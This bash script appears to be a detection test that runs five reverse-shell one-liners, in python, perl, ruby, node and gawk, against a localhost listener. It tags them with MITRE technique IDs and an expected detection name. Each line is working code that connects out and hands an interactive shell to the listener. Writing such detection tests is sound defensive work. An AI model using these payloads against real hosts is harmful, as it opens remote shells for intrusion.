#!/bin/bash
# desc: reverse shell one-liners in python, perl, ruby, node and gawk connect back to a listener and run what it sends
# mitre: T1059.006, T1059.004, T1071
# expect: interpreter_reverse_shell_code*5
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

listen_once
timeout 10 /usr/bin/python3 -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('127.0.0.1',$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])" 2>/dev/null || true
listen_once
timeout 10 perl -e "use Socket;\$i='127.0.0.1';\$p=$port;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};" 2>/dev/null || true
listen_once
timeout 10 ruby -rsocket -e "f=TCPSocket.open('127.0.0.1',$port).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)" 2>/dev/null || true
listen_once
timeout 10 node -e "var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect($port,'127.0.0.1',function(){var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);sh.on('exit',function(){s.destroy()});});" 2>/dev/null || true
listen_once
timeout 10 gawk "BEGIN { s = \"/inet/tcp/0/127.0.0.1/$port\"; while ((s |& getline c) > 0) { while ((c | getline line) > 0) print line |& s; close(c) } }" 2>/dev/null || true
wait
